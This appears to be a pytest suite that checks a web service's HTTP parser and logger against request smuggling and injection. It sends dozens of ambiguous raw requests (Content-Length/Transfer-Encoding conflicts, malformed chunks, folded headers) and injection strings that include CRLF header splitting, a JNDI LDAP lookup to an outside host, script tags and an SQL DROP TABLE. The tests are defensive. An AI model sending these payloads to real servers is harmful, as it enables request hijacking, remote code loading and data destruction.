"""Request smuggling and injection over raw sockets: one request has one answer, and what is ambiguous is cut off.

After each ambiguous request stands another one, complete and harmless: an answer to it would mean that two readers of
the bytes can disagree about where a request ends.
"""

import json
from collections.abc import Iterator

import pytest

from app.log import LOG_KEYS
from tests.api.replay import JUDGE
from tests.attack.wire import CANARY, Line, line, logged, say_all
from tests.service import run

HOST = b"Host: a\r\n"
NEXT = b"GET /v1/" + CANARY.encode() + b" HTTP/1.1\r\nHost: a\r\nX-Hidden: " + CANARY.encode() + b"\r\n\r\n"
BODY = b'{"a":1}'
POST = b"POST /v1/cases HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
GET = b"GET /healthz HTTP/1.1\r\n"
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"


@pytest.fixture(scope="module")
def wire() -> Iterator[Line]:
    """One server for all that follows."""
    with line() as there:
        yield there


def _lengths(*values: bytes) -> bytes:
    return POST + b"".join(b"Content-Length: " + value + b"\r\n" for value in values) + b"\r\n" + BODY + NEXT


def _coded(*values: bytes) -> bytes:
    return POST + b"".join(b"Transfer-Encoding: " + value + b"\r\n" for value in values) + b"\r\n0\r\n\r\n" + NEXT


AMBIGUOUS = {
    "length and chunks": POST + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + NEXT,
    "chunks and length": POST + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + NEXT,
    "two equal lengths": _lengths(b"7", b"7"),
    "two lengths": _lengths(b"0", b"7"),
    "a list of lengths": _lengths(b"7, 7"),
    "a length with a sign": _lengths(b"+7"),
    "a negative length": _lengths(b"-7"),
    "a hexadecimal length": _lengths(b"0x7"),
    "a length with a space in it": _lengths(b"1 0"),
    "a length beyond 64 bits": _lengths(b"99999999999999999999999"),
    "an empty length": _lengths(b""),
    "a space before the colon": POST + b"Content-Length : 7\r\n\r\n" + BODY + NEXT,
    "an unknown coding": _coded(b"xchunked"),
    "chunked but not last": _coded(b"chunked, identity"),
    "coded before it was chunked": _coded(b"gzip, chunked"),
    "no coding": _coded(b"identity"),
    "two codings": _coded(b"chunked", b"identity"),
    "a vertical tab before the coding": _coded(b"\x0bchunked"),
    "chunks in HTTP/1.0": CHUNKED.replace(b"HTTP/1.1", b"HTTP/1.0") + b"0\r\n\r\n" + NEXT,
    "a folded header": POST + b"X-A: b\r\n c\r\n\r\n" + NEXT,
    "a folded coding": POST + b"Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n" + NEXT,
    "bare line feeds": b"GET /healthz HTTP/1.1\nHost: a\n\n" + NEXT,
    "one bare line feed": GET + b"Host: a\nX-A: b\r\n\r\n" + NEXT,
    "a bare carriage return": GET + b"Host: a\rX-A: b\r\n\r\n" + NEXT,
    "NUL in a name": GET + HOST + b"X\x00A: b\r\n\r\n" + NEXT,
    "NUL in a value": GET + HOST + b"XA: b\x00c\r\n\r\n" + NEXT,
    "no colon": GET + HOST + b"XA\r\n\r\n" + NEXT,
    "a space before the first header": GET + b" Host: a\r\n\r\n" + NEXT,
    "a chunk beyond 64 bits": CHUNKED + b"FFFFFFFFFFFFFFFFF\r\n" + BODY + NEXT,
    "a negative chunk": CHUNKED + b"-1\r\n" + BODY + NEXT,
    "a chunk with a prefix": CHUNKED + b"0x7\r\n" + BODY + b"\r\n0\r\n\r\n" + NEXT,
    "a chunk with a space": CHUNKED + b"7 \r\n" + BODY + b"\r\n0\r\n\r\n" + NEXT,
    "a chunk's note with a line feed": CHUNKED + b"7;a\n" + BODY + b"\r\n0\r\n\r\n" + NEXT,
    "a chunk with a line feed": CHUNKED + b"7\n" + BODY + b"\n0\n\n" + NEXT,
    "a chunk longer than it says": CHUNKED + b"7\r\n" + BODY + b"XX0\r\n\r\n" + NEXT,
    "a length among the trailers": CHUNKED + b"7\r\n" + BODY + b"\r\n0\r\nContent-Length: 4\r\n\r\n" + NEXT,
    "a body that switches protocols": POST
    + b"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 7\r\n\r\n"
    + BODY
    + NEXT,
    "a tunnel": b"CONNECT elsewhere.example:443 HTTP/1.1\r\nHost: a\r\n\r\n" + NEXT,
    "no host": GET + b"\r\n" + NEXT,
    "two hosts": GET + HOST + b"Host: b\r\n\r\n" + NEXT,
    "a host that is a path": GET + b"Host: a/../@b\r\n\r\n" + NEXT,
    "a host with a space": GET + b"Host: a b\r\n\r\n" + NEXT,
    "HTTP/0.9": b"GET /healthz\r\n\r\n" + NEXT,
    "HTTP/1.2": b"GET /healthz HTTP/1.2\r\nHost: a\r\n\r\n" + NEXT,
    "HTTP/2 by its first line": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + NEXT,
    "HTTP/2.0 in the request line": b"GET /healthz HTTP/2.0\r\nHost: a\r\n\r\n" + NEXT,
    "a second version": b"GET /healthz HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n" + NEXT,
    "a method of small letters": b"get /healthz HTTP/1.1\r\nHost: a\r\n\r\n" + NEXT,
    "a method that nobody knows": b"FOO /healthz HTTP/1.1\r\nHost: a\r\n\r\n" + NEXT,
    "a path that is not ASCII": "GET /v1/\u00e9 HTTP/1.1\r\nHost: a\r\n\r\n".encode() + NEXT,
    "a TLS handshake": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 50,
    "101 headers": GET + HOST + b"".join(b"X-%d: y\r\n" % number for number in range(101)) + b"\r\n" + NEXT,
    "headers of 33 KB": GET + HOST + b"X-A: " + b"a" * 33_000 + b"\r\n\r\n" + NEXT,
}
"""Refused with one 400 and closed: there is more than one way to read them, or nobody honest sends them."""

PLAIN = {
    "one request": (GET + HOST + b"\r\n", (200,)),
    "two, one after the other": (GET + HOST + b"\r\n" + GET + HOST + b"\r\n", (200, 200)),
    "HTTP/1.0": (b"GET /healthz HTTP/1.0\r\n\r\n" + NEXT, (200,)),
    "more after the last": (GET + HOST + b"Connection: close\r\n\r\n" + NEXT, (200,)),
    "a body of a GET": (GET + HOST + b"Content-Length: %d\r\n\r\n" % len(NEXT) + NEXT, (200,)),
    "spaces around a length": (_lengths(b" 7 ").removesuffix(NEXT), (401,)),
    "a chunk with a note": (CHUNKED + b"7;a=b\r\n" + BODY + b"\r\n0\r\n\r\n", (401,)),
    "a chunk that never ends": (CHUNKED + b"FFFFFFFFFFFFFFFF\r\n" + BODY + NEXT, (401,)),
    "another address in the request line": (b"GET http://elsewhere.example/v1/me HTTP/1.1\r\nHost: a\r\n\r\n", (401,)),
    "a password in the request line": (b"GET http://a:b@c.example/v1/me HTTP/1.1\r\nHost: a\r\n\r\n", (401,)),
    "an address that looks like a path": (b"GET //elsewhere.example/v1/me HTTP/1.1\r\nHost: a\r\n\r\n", (404,)),
    "everything": (b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n", (404,)),
    "an echo": (b"TRACE /v1/me HTTP/1.1\r\nHost: a\r\nX-A: " + CANARY.encode() + b"\r\n\r\n", (405,)),
    "a line break in the path": (b"GET /v1/a%0d%0aX:%20b HTTP/1.1\r\nHost: a\r\n\r\n", (400,)),
    "another host": (b"GET /v1/me HTTP/1.1\r\nHost: " + CANARY.encode() + b".example\r\n\r\n", (401,)),
    "another protocol, without a body": (GET + HOST + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n", (200,)),
}
"""What has one meaning is answered by that meaning, as often as it was asked, and holds nothing of what was sent."""


@run
async def test_what_could_be_read_in_two_ways_is_refused_once_and_cut_off(wire: Line) -> None:
    """One 400, the connection closed, and no answer to what stood behind it."""
    heard = await say_all(wire.port, AMBIGUOUS)
    assert {name: one.statuses for name, one in heard.items() if one.statuses != (400,)} == {}
    assert [name for name, one in heard.items() if not one.closed] == []
    assert [name for name, one in heard.items() if CANARY.encode() in one.raw] == []
    assert "route_unknown" not in {one.get("code") for one in logged(wire.log)}  # nothing behind was ever looked at


@run
async def _told(wire: Line, cases: dict[str, bytes], told: dict[str, tuple[int, ...]]) -> None:
    for name, one in (await say_all(wire.port, cases)).items():
        told[name] = one.statuses
        assert CANARY.encode() not in one.raw and b"elsewhere" not in one.raw, name


def test_what_has_one_meaning_is_answered_once_each(wire: Line) -> None:
    """Neither the host nor the form of the request line changes an answer, and nothing of them is repeated."""
    told: dict[str, tuple[int, ...]] = {}
    _told(wire, {name: data for name, (data, _) in PLAIN.items()}, told)
    assert told == {name: statuses for name, (_, statuses) in PLAIN.items()}


def test_a_head_without_an_end_is_not_kept(wire: Line) -> None:
    """Two megabytes of one header, of a path, of headers: refused long before they are through."""
    endless = b"a" * 2_000_000
    many = b"".join(b"X-%d: y\r\n" % number for number in range(200_000))
    told: dict[str, tuple[int, ...]] = {}
    _told(wire, {"header": GET + HOST + b"X: " + endless, "path": b"GET /" + endless, "many": GET + many}, told)
    assert {statuses for statuses in told.values()} <= {(400,), ()}, told
    _told(wire, {"then": GET + HOST + b"\r\n"}, told)
    assert told["then"] == (200,)


INJECTED = (
    f"{CANARY}\\r\\nSet-Cookie: a=b",
    f"{CANARY}%0d%0aSet-Cookie:%20a=b",
    f'{CANARY}","level":"error","event":"forged',
    f"{CANARY}\u2028\u2029\u0085\u202e",
    f"{CANARY}${{jndi:ldap://elsewhere.example/a}}",
    f"{CANARY}{{{{7*7}}}}<script>alert(1)</script>",
    f"{CANARY}'; DROP TABLE patient; --",
    f"{CANARY}{'x' * 6000}",
)
PLACES = ("X-Request-Id", "Acting-User", "User-Agent", "Idempotency-Key", "If-None-Match", "Accept", "Referer")
MORE = (
    "Origin",
    "Accept-Language",
    "Content-Type",
    "Range",
    "Authorization",
    "X-Forwarded-For",
    "Cookie",
    "traceparent",
)


def test_nothing_that_is_sent_reaches_the_log_or_an_answer(wire: Line) -> None:
    """In every header, the path, the query, the method and a form: the log stays one JSON object a line, of ours."""
    told: dict[str, tuple[int, ...]] = {}
    cases = {}
    for number, text in enumerate(INJECTED):
        sent = text.encode()
        for name in (*PLACES, *MORE):
            bearer = b"" if name == "Authorization" else b"Authorization: Bearer " + _judge(wire) + b"\r\n"
            head = b"GET /v1/me HTTP/1.1\r\n" + HOST + bearer + name.encode() + b": " + sent + b"\r\n"
            cases[f"{name} {number}"] = head + b"Connection: close\r\n\r\n"
        path = text.encode("ascii", "ignore").replace(b" ", b"+")
        for place in (b"/v1/" + path, b"/v1/me?a=" + path, b"/v1/referrals/" + path):
            cases[f"{place[:9]!r} {number}"] = b"GET " + place + b" HTTP/1.1\r\n" + HOST + b"Connection: close\r\n\r\n"
        form = b"grant_type=" + path + b"&client_id=" + path
        head = b"POST /oauth/token HTTP/1.1\r\n" + HOST + b"Content-Type: application/x-www-form-urlencoded\r\n"
        cases[f"form {number}"] = head + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(form) + form
    _told(wire, cases, told)
    assert len(told) > 140 and {len(statuses) for statuses in told.values()} == {1}
    assert not [name for name, statuses in told.items() if statuses[0] >= 500]
    text = wire.log.read_text("utf-8")
    assert CANARY not in text and "Set-Cookie" not in text and "forged" not in text
    lines = logged(wire.log)
    assert len(lines) >= len(told) and text.isascii()
    assert all(set(one) <= LOG_KEYS and json.dumps(one) for one in lines)


def _judge(wire: Line) -> bytes:
    return wire.tokens[JUDGE].encode()
